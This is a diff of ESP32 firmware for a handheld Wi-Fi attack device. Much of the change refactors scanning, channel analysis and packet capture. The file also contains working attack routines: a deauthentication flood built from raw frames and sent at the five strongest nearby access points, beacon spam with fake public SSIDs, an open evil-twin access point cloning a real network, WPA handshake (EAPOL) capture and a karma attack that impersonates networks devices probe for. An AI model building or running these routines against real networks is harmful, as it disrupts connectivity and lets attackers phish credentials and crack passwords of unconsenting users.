@@ -1,8 +1,16 @@
 #include "wifi_functions.h"
 #include "packet_capture.h"
+#include "capture_filter.h"
+#include "channel_hopper.h"
+#include "promisc_mux.h"
+#include "wifi_frame.h"
 #include "sd_card.h"
 #include "signal_visualizer.h"
 #include "target_manager.h"
+#include "device_table.h"
+#include "wifi_scanner.h"
+#include "airtime.h"
+#include "probe_stats.h"
 #include "attack_timer.h"
 #include "esp_wifi.h"
 #include "esp_event.h"
@@ -14,11 +22,12 @@
 #include "freertos/task.h"
 #include "freertos/event_groups.h"
 #include <string.h>
+#include <stdlib.h>
 #include <time.h>
 
 static const char* TAG = "WIFI";
 static bool wifi_initialized = false;
-static wifi_ap_record_t ap_records[20];
+static uint16_t* ap_ids = NULL;    // device table ids of known APs, strongest first
 static uint16_t ap_count = 0;
 static uint32_t last_scan_time = 0;
 
@@ -39,61 +48,126 @@ esp_err_t wifi_init(void) {
     return ESP_OK;
 }
 
+// Rebuilds ap_ids from the device table
+static void refresh_ap_list(void) {
+    uint16_t capacity = device_table_capacity();
+    if (ap_ids == NULL && capacity > 0) {
+        ap_ids = malloc(capacity * sizeof(uint16_t));
+    }
+    ap_count = ap_ids ? device_table_query(DEVICE_KIND_WIFI_AP, 0, 0, DEVICE_ORDER_RSSI,
+                                           ap_ids, capacity) : 0;
+}
+
+// Airtime analyzer busy time per channel, with scanned AP counts on top
+static void draw_utilization_heatmap(const airtime_report_t* report) {
+    int channel_count[14] = {0};
+    int channel_busy[14] = {0};
+    device_info_t ap;
+
+    for (int i = 0; i < ap_count; i++) {
+        if (!device_table_get(ap_ids[i], &ap) || ap.channel < 1 || ap.channel > 14) continue;
+        channel_count[ap.channel - 1]++;
+    }
+
+    const airtime_channel_t* quietest = NULL;
+    for (int i = 0; i < report->channel_count; i++) {
+        const airtime_channel_t* c = &report->channels[i];
+        channel_busy[c->channel - 1] = c->busy_permille;
+        if (c->listen_ms && (quietest == NULL || c->busy_permille < quietest->busy_permille)) {
+            quietest = c;
+        }
+    }
+    draw_wifi_channel_utilization(channel_busy, channel_count);
+
+    char line[48];
+    if (report->sweeps == 0 || quietest == NULL) {
+        display_draw_text(10, 220, "Measuring airtime...", COLOR_GREEN, COLOR_BLACK);
+        return;
+    }
+    snprintf(line, sizeof(line), "Quietest: ch %u, %u.%u%% busy", quietest->channel,
+             quietest->busy_permille / 10, quietest->busy_permille % 10);
+    display_draw_text(10, 220, line, COLOR_GREEN, COLOR_BLACK);
+    snprintf(line, sizeof(line), "%u fps, %u.%u%% retry, NF %d", quietest->frames_per_s,
+             quietest->retry_permille / 10, quietest->retry_permille % 10, quietest->noise_floor);
+    display_draw_text(10, 235, line, COLOR_WHITE, COLOR_BLACK);
+    snprintf(line, sizeof(line), "%lu sweeps", (unsigned long)report->sweeps);
+    display_draw_text(10, 250, line, COLOR_GRAY, COLOR_BLACK);
+}
+
 void wifi_scan_start(void) {
     bool scanning = true;
     bool show_heatmap = false;
+    bool full_redraw = true;
     int scroll_offset = 0;
-    
-    while (scanning) {
-        display_fill_screen(COLOR_BLACK);
-        display_draw_text(10, 10, "WiFi Scanner", COLOR_WHITE, COLOR_BLACK);
-        display_fill_rect(0, 25, DISPLAY_WIDTH, 2, COLOR_WHITE);
-        display_draw_text(10, 30, "Scanning...", COLOR_GREEN, COLOR_BLACK);
-        
-        wifi_scan_config_t scan_config = {
-            .ssid = NULL,
-            .bssid = NULL,
-            .channel = 0,
-            .show_hidden = true,
-            .scan_type = WIFI_SCAN_TYPE_ACTIVE,
-            .scan_time.active.min = 100,
-            .scan_time.active.max = 300
-        };
-        
-        esp_err_t ret = esp_wifi_scan_start(&scan_config, true);
+    wifi_scan_profile_t profile = WIFI_SCAN_PROFILE_ACTIVE;
+    wifi_scanner_progress_t progress;
+    airtime_report_t airtime;
+    
+    // Results are merged channel by channel; the list redraws as each lands.
+    // A recent sweep by any feature is shown as-is until SCAN is pressed.
+    wifi_scanner_get_progress(&progress);
+    if (!progress.last_sweep_ms || device_table_now_ms() - progress.last_sweep_ms > WIFI_SCAN_REUSE_MS) {
+        esp_err_t ret = wifi_scanner_start(profile);
         if (ret != ESP_OK) {
-            display_draw_text(10, 50, "Scan failed!", COLOR_RED, COLOR_BLACK);
             ESP_LOGE(TAG, "Scan start failed: %s", esp_err_to_name(ret));
-            vTaskDelay(pdMS_TO_TICKS(2000));
-            continue;
+        }
+    }
+    
+    while (scanning) {
+        if (full_redraw) {
+            display_fill_screen(COLOR_BLACK);
+            display_draw_text(10, 10, "WiFi Scanner", COLOR_WHITE, COLOR_BLACK);
+            display_fill_rect(0, 25, DISPLAY_WIDTH, 2, COLOR_WHITE);
+            
+            // Draw main buttons
+            display_fill_rect(10, 265, 60, 25, COLOR_BLUE);
+            display_draw_text(20, 273, "SCAN", COLOR_WHITE, COLOR_BLUE);
+            
+            display_fill_rect(80, 265, 60, 25, COLOR_ORANGE);
+            display_draw_text(85, 273, "VIEW", COLOR_WHITE, COLOR_ORANGE);
+            
+            display_fill_rect(150, 265, 70, 25, COLOR_RED);
+            display_draw_text(165, 273, "BACK", COLOR_WHITE, COLOR_RED);
+            full_redraw = false;
         }
         
-        ap_count = 20;
-        ret = esp_wifi_scan_get_ap_records(&ap_count, ap_records);
-        if (ret != ESP_OK) {
-            display_draw_text(10, 50, "Get APs failed!", COLOR_RED, COLOR_BLACK);
-            ESP_LOGE(TAG, "Get AP records failed: %s", esp_err_to_name(ret));
-            vTaskDelay(pdMS_TO_TICKS(2000));
-            continue;
+        wifi_scanner_get_progress(&progress);
+        refresh_ap_list();
+        if (progress.last_update_ms) {
+            last_scan_time = progress.last_update_ms / 1000;
         }
         
-        last_scan_time = xTaskGetTickCount() / 1000;
-        ESP_LOGI(TAG, "Found %d APs", ap_count);
+        // Status line; tapping the profile cycles it and restarts the sweep.
+        // The heatmap draws its own title there instead.
+        display_fill_rect(0, 30, DISPLAY_WIDTH, 15, COLOR_BLACK);
+        char status[40];
+        if (progress.running) {
+            snprintf(status, sizeof(status), "Scanning ch %u (%u/%u)", progress.channel,
+                     progress.channels_done, progress.channel_count);
+        } else {
+            snprintf(status, sizeof(status), progress.failed ? "Sweep failed" : "Sweep done");
+        }
+        if (!show_heatmap) {
+            display_draw_text(10, 30, status, progress.running ? COLOR_GREEN : COLOR_WHITE, COLOR_BLACK);
+            display_fill_rect(170, 29, 60, 14, COLOR_BLUE);
+            display_draw_text(174, 32, wifi_scanner_profile_name(profile), COLOR_WHITE, COLOR_BLUE);
+        }
         
-        display_fill_rect(0, 50, 240, 200, COLOR_BLACK);
+        display_fill_rect(0, 50, 240, 212, COLOR_BLACK);
         
-        uint32_t elapsed = (xTaskGetTickCount() / 1000) - last_scan_time;
+        uint32_t elapsed = (device_table_now_ms() / 1000) - last_scan_time;
         
         if (show_heatmap) {
-            // Show channel heatmap
-            draw_wifi_heatmap(ap_records, ap_count);
+            // Show channel utilization, AP counts from the last sweep on top
+            airtime_get_report(&airtime);
+            draw_utilization_heatmap(&airtime);
             char count_str[48];
             if (elapsed < 60) {
-                snprintf(count_str, sizeof(count_str), "%d APs (%lus ago)", ap_count, elapsed);
+                snprintf(count_str, sizeof(count_str), "%d APs (%lus ago)", ap_count, (unsigned long)elapsed);
             } else {
-                snprintf(count_str, sizeof(count_str), "%d APs (%lum ago)", ap_count, elapsed / 60);
+                snprintf(count_str, sizeof(count_str), "%d APs (%lum ago)", ap_count, (unsigned long)elapsed / 60);
             }
-            display_draw_text(10, 220, count_str, COLOR_GREEN, COLOR_BLACK);
+            display_draw_text(130, 250, count_str, COLOR_GRAY, COLOR_BLACK);
         } else {
             // Show list with RSSI bars
             int items_per_page = 7;
@@ -103,12 +177,14 @@ void wifi_scan_start(void) {
             
             for (int i = start_idx; i < end_idx; i++) {
                 int y = 50 + (i - start_idx) * 22;
+                device_info_t ap;
+                if (!device_table_get(ap_ids[i], &ap)) continue;
                 char ap_info[32];
-                snprintf(ap_info, sizeof(ap_info), "%.20s", (char*)ap_records[i].ssid);
+                snprintf(ap_info, sizeof(ap_info), "%.20s", ap.name);
                 display_draw_text(10, y, ap_info, COLOR_WHITE, COLOR_BLACK);
                 
                 // Draw RSSI bar
-                draw_signal_meter(ap_records[i].rssi, 10, y + 10, 160, 8);
+                draw_signal_meter(ap.rssi, 10, y + 10, 160, 8);
                 
                 // Save button
                 display_fill_rect(175, y + 8, 50, 12, COLOR_GREEN);
@@ -117,27 +193,17 @@ void wifi_scan_start(void) {
             
             // Page indicator
             int total_pages = (ap_count + items_per_page - 1) / items_per_page;
-            char page_str[48];
+            char page_str[80];
             if (elapsed < 60) {
                 snprintf(page_str, sizeof(page_str), "Page %d/%d - %d APs (%lus)", 
-                        scroll_offset + 1, total_pages > 0 ? total_pages : 1, ap_count, elapsed);
+                        scroll_offset + 1, total_pages > 0 ? total_pages : 1, ap_count, (unsigned long)elapsed);
             } else {
                 snprintf(page_str, sizeof(page_str), "Page %d/%d - %d APs (%lum)", 
-                        scroll_offset + 1, total_pages > 0 ? total_pages : 1, ap_count, elapsed / 60);
+                        scroll_offset + 1, total_pages > 0 ? total_pages : 1, ap_count, (unsigned long)elapsed / 60);
             }
             display_draw_text(10, 220, page_str, COLOR_BLUE, COLOR_BLACK);
         }
         
-        // Draw main buttons
-        display_fill_rect(10, 265, 60, 25, COLOR_BLUE);
-        display_draw_text(20, 273, "SCAN", COLOR_WHITE, COLOR_BLUE);
-        
-        display_fill_rect(80, 265, 60, 25, COLOR_ORANGE);
-        display_draw_text(85, 273, "VIEW", COLOR_WHITE, COLOR_ORANGE);
-        
-        display_fill_rect(150, 265, 70, 25, COLOR_RED);
-        display_draw_text(165, 273, "BACK", COLOR_WHITE, COLOR_RED);
-        
         // Scroll buttons for list view
         if (!show_heatmap) {
             int items_per_page = 7;
@@ -152,10 +218,21 @@ void wifi_scan_start(void) {
             }
         }
         
-        // Wait for button press
+        // Wait for button press or the next channel's results
+        bool touched = false;
         while (true) {
             touch_point_t point = touchscreen_get_point();
             if (point.pressed) {
+                touched = true;
+                
+                // Profile button
+                if (!show_heatmap && point.y >= 29 && point.y <= 43 && point.x >= 170 && point.x <= 230) {
+                    profile = (profile + 1) % WIFI_SCAN_PROFILE_COUNT;
+                    scroll_offset = 0;
+                    wifi_scanner_start(profile);
+                    break;
+                }
+                
                 // Check save buttons
                 if (!show_heatmap && point.y >= 50 && point.y < 204) {
                     int items_per_page = 7;
@@ -163,7 +240,7 @@ void wifi_scan_start(void) {
                     int display_idx = (point.y - 50) / 22;
                     int ap_idx = start_idx + display_idx;
                     if (ap_idx < ap_count && point.x >= 175 && point.x <= 225) {
-                        target_manager_quick_save_wifi(&ap_records[ap_idx]);
+                        target_manager_quick_save_device(ap_ids[ap_idx]);
                         display_fill_rect(10, 205, 220, 15, COLOR_BLACK);
                         display_draw_text(10, 205, "Target saved!", COLOR_GREEN, COLOR_BLACK);
                         vTaskDelay(pdMS_TO_TICKS(1000));
@@ -186,22 +263,45 @@ void wifi_scan_start(void) {
                 
                 if (point.y >= 265 && point.y <= 290) {
                     if (point.x >= 10 && point.x <= 70) {
+                        // Scanning needs the radio back from the analyzer
+                        airtime_stop();
+                        show_heatmap = false;
                         scroll_offset = 0;
+                        wifi_scanner_start(profile);
                         break; // Rescan
                     } else if (point.x >= 80 && point.x <= 140) {
                         show_heatmap = !show_heatmap; // Toggle view
                         scroll_offset = 0;
+                        if (show_heatmap) {
+                            wifi_scanner_stop();
+                            airtime_start();
+                        } else {
+                            airtime_stop();
+                        }
                         break;
                     } else if (point.x >= 150 && point.x <= 220) {
                         scanning = false;
                         break; // Back
                     }
                 }
+            } else {
+                wifi_scanner_progress_t now;
+                wifi_scanner_get_progress(&now);
+                if (now.generation != progress.generation) break;
+                if (show_heatmap) {
+                    airtime_report_t latest;
+                    airtime_get_report(&latest);
+                    if (latest.sweeps != airtime.sweeps) break;
+                }
             }
             vTaskDelay(pdMS_TO_TICKS(100));
         }
-        vTaskDelay(pdMS_TO_TICKS(300)); // Debounce
+        if (touched) {
+            vTaskDelay(pdMS_TO_TICKS(300)); // Debounce
+        }
     }
+    airtime_stop();
+    wifi_scanner_stop();
 }
 
 void wifi_deauth_attack(void) {
@@ -211,7 +311,7 @@ void wifi_deauth_attack(void) {
     display_draw_text(10, 30, "Target all APs", COLOR_WHITE, COLOR_BLACK);
     
     attack_timer_start(60);
-    esp_wifi_set_promiscuous(true);
+    promisc_hold();
 
 uint8_t deauth_frame[] = {
     0xc0, 0x00, 0x3a, 0x01,
@@ -221,11 +321,19 @@ uint8_t deauth_frame[] = {
     0xf0, 0xff, 0x02, 0x00
 };
 
+// Five strongest APs from the last scan
+uint8_t targets[5][6];
+int target_count = 0;
+device_info_t ap;
+for (int j = 0; j < ap_count && target_count < 5; j++) {
+    if (device_table_get(ap_ids[j], &ap)) memcpy(targets[target_count++], ap.mac, 6);
+}
+
 int total_packets = 0;
 for (int i = 0; i < 100 && !attack_timer_expired(); i++) {
-    for (int j = 0; j < ap_count && j < 5; j++) {
-        memcpy(&deauth_frame[10], ap_records[j].bssid, 6);
-        memcpy(&deauth_frame[16], ap_records[j].bssid, 6);
+    for (int j = 0; j < target_count; j++) {
+        memcpy(&deauth_frame[10], targets[j], 6);
+        memcpy(&deauth_frame[16], targets[j], 6);
         esp_wifi_80211_tx(WIFI_IF_STA, deauth_frame, sizeof(deauth_frame), false);
         total_packets++;
     }
@@ -244,7 +352,7 @@ for (int i = 0; i < 100 && !attack_timer_expired(); i++) {
         vTaskDelay(pdMS_TO_TICKS(100));
     }
     
-    esp_wifi_set_promiscuous(false);
+    promisc_release();
     
     display_fill_rect(10, 100, 220, 40, COLOR_BLACK);
     display_draw_text(10, 100, "\xFB Attack Complete", COLOR_GREEN, COLOR_BLACK);
@@ -260,7 +368,7 @@ void wifi_beacon_spam(void) {
     display_fill_screen(COLOR_BLACK);
     display_draw_text(10, 10, "Beacon Spam", COLOR_RED, COLOR_BLACK);
     
-    esp_wifi_set_promiscuous(true);
+    promisc_hold();
     
     const char* fake_ssids[] = {
         "Free WiFi", "Hotel Guest", "Airport WiFi", "Starbucks",
@@ -296,7 +404,7 @@ void wifi_beacon_spam(void) {
         vTaskDelay(pdMS_TO_TICKS(50));
     }
     
-    esp_wifi_set_promiscuous(false);
+    promisc_release();
     display_draw_text(10, 280, "Spam stopped", COLOR_GREEN, COLOR_BLACK);
 }
 
@@ -318,7 +426,7 @@ void wifi_packet_monitor(void) {
     struct tm timeinfo;
     localtime_r(&now, &timeinfo);
     char filename[32];
-    snprintf(filename, sizeof(filename), "cap_%02d%02d_%02d%02d.pcap",
+    snprintf(filename, sizeof(filename), "cap_%02d%02d_%02d%02d.pcapng",
              timeinfo.tm_mon + 1, timeinfo.tm_mday,
              timeinfo.tm_hour, timeinfo.tm_min);
     
@@ -333,8 +441,8 @@ void wifi_packet_monitor(void) {
         return;
     }
     
-    esp_wifi_set_promiscuous_rx_cb(packet_capture_handler);
-    esp_wifi_set_promiscuous(true);
+    promisc_subscribe(packet_capture_handler, NULL, NULL);
+    channel_hopper_start(NULL);
     
     display_draw_text(10, 80, "Capturing packets...", COLOR_GREEN, COLOR_BLACK);
     display_draw_text(10, 280, "Touch to stop", COLOR_GRAY, COLOR_BLACK);
@@ -346,7 +454,7 @@ void wifi_packet_monitor(void) {
         
         if (count != last_count) {
             char stats[32];
-            snprintf(stats, sizeof(stats), "Packets: %lu", count);
+            snprintf(stats, sizeof(stats), "Packets: %lu", (unsigned long)count);
             display_fill_rect(10, 100, 200, 20, COLOR_BLACK);
             display_draw_text(10, 100, stats, COLOR_GREEN, COLOR_BLACK);
             
@@ -366,15 +474,14 @@ void wifi_packet_monitor(void) {
         vTaskDelay(pdMS_TO_TICKS(100));
     }
     
-    esp_wifi_set_promiscuous(false);
-    esp_wifi_set_promiscuous_rx_cb(NULL);
+    channel_hopper_stop();
     packet_capture_stop();
     
     display_fill_rect(10, 180, 220, 60, COLOR_BLACK);
     display_draw_text(10, 180, "Capture complete!", COLOR_GREEN, COLOR_BLACK);
     
     char final_stats[48];
-    snprintf(final_stats, sizeof(final_stats), "Total: %lu packets", packet_capture_get_count());
+    snprintf(final_stats, sizeof(final_stats), "Total: %lu packets", (unsigned long)packet_capture_get_count());
     display_draw_text(10, 200, final_stats, COLOR_WHITE, COLOR_BLACK);
     
     snprintf(final_stats, sizeof(final_stats), "Saved: %.20s", filename);
@@ -387,7 +494,8 @@ void wifi_evil_twin_attack(void) {
     display_fill_screen(COLOR_BLACK);
     display_draw_text(10, 10, "Evil Twin AP", COLOR_RED, COLOR_BLACK);
     
-    if (ap_count == 0) {
+    device_info_t target;
+    if (ap_count == 0 || !device_table_get(ap_ids[0], &target)) {
         display_draw_text(10, 30, "No targets found", COLOR_RED, COLOR_BLACK);
         display_draw_text(10, 50, "Run scan first", COLOR_WHITE, COLOR_BLACK);
         return;
@@ -395,14 +503,14 @@ void wifi_evil_twin_attack(void) {
     
     wifi_config_t wifi_config = {
         .ap = {
-            .ssid_len = strlen((char*)ap_records[0].ssid),
-            .channel = ap_records[0].primary,
+            .ssid_len = strlen(target.name),
+            .channel = target.channel,
             .password = "",
             .max_connection = 4,
             .authmode = WIFI_AUTH_OPEN
         },
     };
-    strcpy((char*)wifi_config.ap.ssid, (char*)ap_records[0].ssid);
+    memcpy(wifi_config.ap.ssid, target.name, wifi_config.ap.ssid_len);
     
     ESP_ERROR_CHECK(esp_wifi_set_mode(WIFI_MODE_AP));
     ESP_ERROR_CHECK(esp_wifi_set_config(WIFI_IF_AP, &wifi_config));
@@ -476,7 +584,39 @@ void wifi_captive_portal(void) {
 void wifi_channel_analyzer(void) {
     display_fill_screen(COLOR_BLACK);
     display_draw_text(10, 10, "Channel Analyzer", COLOR_WHITE, COLOR_BLACK);
-    display_draw_text(10, 30, "Analyzing channels", COLOR_GREEN, COLOR_BLACK);
+    display_fill_rect(0, 25, DISPLAY_WIDTH, 2, COLOR_WHITE);
+    
+    wifi_scanner_stop();
+    esp_err_t ret = airtime_start();
+    if (ret != ESP_OK) {
+        display_draw_text(10, 50, "Analyzer failed!", COLOR_RED, COLOR_BLACK);
+        ESP_LOGE(TAG, "Airtime start failed: %s", esp_err_to_name(ret));
+        vTaskDelay(pdMS_TO_TICKS(2000));
+        return;
+    }
+    refresh_ap_list();
+    
+    display_fill_rect(150, 265, 70, 25, COLOR_RED);
+    display_draw_text(165, 273, "BACK", COLOR_WHITE, COLOR_RED);
+    
+    airtime_report_t report = {0};
+    uint32_t shown_sweeps = UINT32_MAX;
+    while (true) {
+        airtime_get_report(&report);
+        if (report.sweeps != shown_sweeps) {
+            shown_sweeps = report.sweeps;
+            display_fill_rect(0, 30, DISPLAY_WIDTH, 232, COLOR_BLACK);
+            draw_utilization_heatmap(&report);
+        }
+        
+        touch_point_t point = touchscreen_get_point();
+        if (point.pressed && point.y >= 265 && point.y <= 290 && point.x >= 150 && point.x <= 220) {
+            break;
+        }
+        vTaskDelay(pdMS_TO_TICKS(100));
+    }
+    
+    airtime_stop();
 }
 
 void wifi_pineapple_detector(void) {
@@ -485,19 +625,34 @@ void wifi_pineapple_detector(void) {
     display_draw_text(10, 30, "Scanning for rogue APs", COLOR_GREEN, COLOR_BLACK);
 }
 
-static void probe_packet_handler(void* buf, wifi_promiscuous_pkt_type_t type) {
-    static int probe_count = 0;
-    wifi_promiscuous_pkt_t* pkt = (wifi_promiscuous_pkt_t*)buf;
-    
-    if (type == WIFI_PKT_MGMT && pkt->payload[0] == 0x40) { // Probe request
-        probe_count++;
-        
-        if (probe_count % 10 == 0) {
-            char status[30];
-            snprintf(status, sizeof(status), "Probes: %d", probe_count);
-            display_fill_rect(10, 50, 200, 15, COLOR_BLACK);
-            display_draw_text(10, 50, status, COLOR_GREEN, COLOR_BLACK);
-        }
+static capture_filter_t sniffer_filter;
+
+static void probe_packet_handler(wifi_promiscuous_pkt_t* pkt, wifi_promiscuous_pkt_type_t type, void* ctx) {
+    // Aggregation happens on the probe_stats worker, not in the RX path
+    if (capture_filter_match(&sniffer_filter, pkt)) {
+        probe_stats_note_frame(pkt);
+    }
+}
+
+static void draw_probe_stats(void) {
+    probe_stats_t stats;
+    probe_stats_get(&stats);
+    
+    char status[40];
+    snprintf(status, sizeof(status), "Probes: %lu  ~%lu devices",
+             (unsigned long)stats.probes, (unsigned long)stats.distinct);
+    display_fill_rect(10, 50, 220, 15, COLOR_BLACK);
+    display_draw_text(10, 50, status, COLOR_GREEN, COLOR_BLACK);
+    
+    probe_ssid_count_t top[10];
+    size_t n = probe_stats_top_ssids(top, 10);
+    display_fill_rect(0, 90, DISPLAY_WIDTH, 165, COLOR_BLACK);
+    display_draw_text(10, 90, "Top probed SSIDs:", COLOR_BLUE, COLOR_BLACK);
+    for (size_t i = 0; i < n; i++) {
+        char line[40];
+        snprintf(line, sizeof(line), "%2d %-20.20s %lu", (int)i + 1, top[i].ssid,
+                 (unsigned long)top[i].count);
+        display_draw_text(10, 106 + i * 15, line, COLOR_WHITE, COLOR_BLACK);
     }
 }
 
@@ -506,8 +661,17 @@ void wifi_probe_sniffer(void) {
     display_draw_text(10, 10, "Probe Sniffer", COLOR_WHITE, COLOR_BLACK);
     display_draw_text(10, 30, "Capturing probe requests", COLOR_GREEN, COLOR_BLACK);
     
-    esp_wifi_set_promiscuous_rx_cb(probe_packet_handler);
-    esp_wifi_set_promiscuous(true);
+    capture_filter_compile(&sniffer_filter, "mgmt subtype probe-req");
+    if (probe_stats_start() != ESP_OK) {
+        display_draw_text(10, 50, "Out of memory", COLOR_RED, COLOR_BLACK);
+        return;
+    }
+    promisc_filter_t rx_filter = {
+        .types = WIFI_PROMIS_FILTER_MASK_MGMT,
+        .mgmt_subtypes = PROMISC_SUBTYPE(WIFI_MGMT_PROBE_REQ)
+    };
+    promisc_subscribe(probe_packet_handler, &rx_filter, NULL);
+    channel_hopper_start(NULL);
     
     for (int i = 0; i < 300; i++) {
         char time_info[30];
@@ -515,32 +679,29 @@ void wifi_probe_sniffer(void) {
         display_fill_rect(10, 70, 200, 15, COLOR_BLACK);
         display_draw_text(10, 70, time_info, COLOR_WHITE, COLOR_BLACK);
         
+        if (i % 10 == 0) {
+            draw_probe_stats();
+        }
+        
         if (touchscreen_is_touched()) break;
         vTaskDelay(pdMS_TO_TICKS(100));
     }
     
-    esp_wifi_set_promiscuous(false);
-    esp_wifi_set_promiscuous_rx_cb(NULL);
+    channel_hopper_stop();
+    promisc_unsubscribe(probe_packet_handler);
+    probe_stats_stop();
+    draw_probe_stats();
     display_draw_text(10, 280, "Probe sniffing stopped", COLOR_GREEN, COLOR_BLACK);
 }
 
-static void eapol_packet_handler(void* buf, wifi_promiscuous_pkt_type_t type) {
-    static int eapol_count = 0;
-    wifi_promiscuous_pkt_t* pkt = (wifi_promiscuous_pkt_t*)buf;
-    
-    if (type == WIFI_PKT_DATA) {
-        // Check for EAPOL packets (EtherType 0x888E)
-        if (pkt->rx_ctrl.sig_len > 36) {
-            uint8_t* payload = pkt->payload;
-            if (payload[32] == 0x88 && payload[33] == 0x8E) {
-                eapol_count++;
-                
-                char status[30];
-                snprintf(status, sizeof(status), "EAPOL: %d", eapol_count);
-                display_fill_rect(10, 50, 200, 15, COLOR_BLACK);
-                display_draw_text(10, 50, status, COLOR_RED, COLOR_BLACK);
-            }
-        }
+// Counted in the RX path, drawn by the sniffer loop: the display calls block
+// on the bus and would stall the Wi-Fi task and every other subscriber
+static uint32_t eapol_count = 0;
+
+static void eapol_packet_handler(wifi_promiscuous_pkt_t* pkt, wifi_promiscuous_pkt_type_t type, void* ctx) {
+    // EAPOL (EtherType 0x888E), wherever the QoS/4-address headers put the LLC
+    if (capture_filter_match(&sniffer_filter, pkt)) {
+        __atomic_fetch_add(&eapol_count, 1, __ATOMIC_RELAXED);
     }
 }
 
@@ -549,21 +710,34 @@ void wifi_eapol_sniffer(void) {
     display_draw_text(10, 10, "EAPOL Sniffer", COLOR_WHITE, COLOR_BLACK);
     display_draw_text(10, 30, "Capturing handshakes", COLOR_GREEN, COLOR_BLACK);
     
-    esp_wifi_set_promiscuous_rx_cb(eapol_packet_handler);
-    esp_wifi_set_promiscuous(true);
+    capture_filter_compile(&sniffer_filter, "eapol");
+    __atomic_store_n(&eapol_count, 0, __ATOMIC_RELAXED);
+    promisc_filter_t rx_filter = { .types = WIFI_PROMIS_FILTER_MASK_DATA };
+    promisc_subscribe(eapol_packet_handler, &rx_filter, NULL);
+    channel_hopper_start(NULL);
     
+    uint32_t shown_count = UINT32_MAX;
     for (int i = 0; i < 600; i++) {
         char time_info[30];
         snprintf(time_info, sizeof(time_info), "Time: %ds/60s", i / 10);
         display_fill_rect(10, 70, 200, 15, COLOR_BLACK);
         display_draw_text(10, 70, time_info, COLOR_WHITE, COLOR_BLACK);
         
+        uint32_t count = __atomic_load_n(&eapol_count, __ATOMIC_RELAXED);
+        if (count != shown_count && count > 0) {
+            shown_count = count;
+            char status[30];
+            snprintf(status, sizeof(status), "EAPOL: %lu", (unsigned long)count);
+            display_fill_rect(10, 50, 200, 15, COLOR_BLACK);
+            display_draw_text(10, 50, status, COLOR_RED, COLOR_BLACK);
+        }
+        
         if (touchscreen_is_touched()) break;
         vTaskDelay(pdMS_TO_TICKS(100));
     }
     
-    esp_wifi_set_promiscuous(false);
-    esp_wifi_set_promiscuous_rx_cb(NULL);
+    channel_hopper_stop();
+    promisc_unsubscribe(eapol_packet_handler);
     display_draw_text(10, 280, "EAPOL sniffing stopped", COLOR_GREEN, COLOR_BLACK);
 }
 
@@ -576,16 +750,15 @@ void wifi_wardriving_mode(void) {
 static char karma_ssids[10][32];
 static int karma_ssid_count = 0;
 
-static void karma_packet_handler(void* buf, wifi_promiscuous_pkt_type_t type) {
-    wifi_promiscuous_pkt_t* pkt = (wifi_promiscuous_pkt_t*)buf;
-    
-    if (type == WIFI_PKT_MGMT && pkt->payload[0] == 0x40) { // Probe request
-        // Extract SSID from probe request
-        uint8_t* payload = pkt->payload;
-        if (payload[24] == 0x00 && payload[25] > 0 && payload[25] < 32) {
-            int ssid_len = payload[25];
-            char ssid[33] = {0};
-            memcpy(ssid, &payload[26], ssid_len);
+static void karma_packet_handler(wifi_promiscuous_pkt_t* pkt, wifi_promiscuous_pkt_type_t type, void* ctx) {
+    wifi_frame_t frame;
+    
+    if (wifi_frame_from_pkt(&frame, pkt) &&
+        wifi_frame_is_mgmt(&frame, WIFI_MGMT_PROBE_REQ)) {
+        // Extract SSID from probe request (skip wildcard probes)
+        char ssid[33];
+        int ssid_len = wifi_frame_ssid(&frame, ssid);
+        if (ssid_len > 0 && ssid_len < 32) {
             
             // Add to karma list if not already present
             bool found = false;
@@ -612,8 +785,11 @@ void wifi_karma_attack(void) {
     karma_ssid_count = 0;
     
     // Phase 1: Learn SSIDs from probe requests
-    esp_wifi_set_promiscuous_rx_cb(karma_packet_handler);
-    esp_wifi_set_promiscuous(true);
+    promisc_filter_t rx_filter = {
+        .types = WIFI_PROMIS_FILTER_MASK_MGMT,
+        .mgmt_subtypes = PROMISC_SUBTYPE(WIFI_MGMT_PROBE_REQ)
+    };
+    promisc_subscribe(karma_packet_handler, &rx_filter, NULL);
     
     for (int i = 0; i < 100; i++) {
         char status[30];
@@ -625,8 +801,7 @@ void wifi_karma_attack(void) {
         if (touchscreen_is_touched()) break;
     }
     
-    esp_wifi_set_promiscuous(false);
-    esp_wifi_set_promiscuous_rx_cb(NULL);
+    promisc_unsubscribe(karma_packet_handler);
     
     // Phase 2: Create APs for learned SSIDs
     display_draw_text(10, 70, "Creating karma APs", COLOR_RED, COLOR_BLACK);